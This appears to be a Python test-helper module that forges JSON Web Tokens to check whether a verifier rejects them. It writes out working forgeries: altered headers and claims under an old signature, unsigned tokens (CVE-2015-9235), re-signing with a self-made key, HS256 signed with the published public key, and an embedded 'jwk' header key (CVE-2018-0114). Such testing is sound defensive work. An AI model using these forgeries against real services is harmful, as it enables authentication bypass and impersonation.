"""Tokens as somebody forges them: from a good one, from keys of one's own, from what the realm publishes."""

import base64
import json
from collections.abc import Callable
from typing import Any

from jwcrypto.jwk import JWK
from jwcrypto.jws import JWS


def coded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def plain(part: str) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    return loaded


def header(token: str) -> dict[str, Any]:
    return plain(token.split(".", maxsplit=1)[0])


def payload(token: str) -> dict[str, Any]:
    return plain(token.split(".")[1])


def with_header(token: str, **changed: Any) -> str:
    """Another header on the same payload and signature."""
    _, body, signature = token.split(".")
    return f"{coded(json.dumps(header(token) | changed).encode())}.{body}.{signature}"


def with_claims(token: str, **changed: Any) -> str:
    """Another payload under the same header and signature."""
    head, _, signature = token.split(".")
    return f"{head}.{coded(json.dumps(payload(token) | changed).encode())}.{signature}"


def unsigned(token: str, alg: str) -> str:
    """CVE-2015-9235 and its spellings: "I am not signed, believe me"."""
    head = coded(json.dumps(header(token) | {"alg": alg}).encode())
    return f"{head}.{token.split('.')[1]}."


def signed(token: str, key: JWK, alg: str, **changed: Any) -> str:
    """The same claims, signed anew by ``key``."""
    jws = JWS(json.dumps(payload(token)).encode())
    jws.allowed_algs = [alg]
    jws.add_signature(key, None, json.dumps(header(token) | {"alg": alg} | changed), None)
    return str(jws.serialize(compact=True))


def own_key() -> JWK:
    return JWK.generate(kty="RSA", size=2048)


def by_the_public_key(token: str, published: JWK) -> str:
    """HS256 with the realm's public key as the secret, for readers that let the header choose the algorithm."""
    secret = JWK(kty="oct", k=coded(published.export_to_pem()))
    return signed(token, secret, "HS256")


Forge = Callable[[str, JWK], str]
"""From a good token and the key that the realm signs with, as published."""


def embedding_a_key(token: str, _: JWK) -> str:
    """The header brings the key along (CVE-2018-0114)."""
    key = own_key()
    return signed(token, key, "RS256", jwk=json.loads(key.export_public()))


def at_own_key(**changed: Any) -> Forge:
    return lambda token, _: signed(token, own_key(), "RS256", **changed)
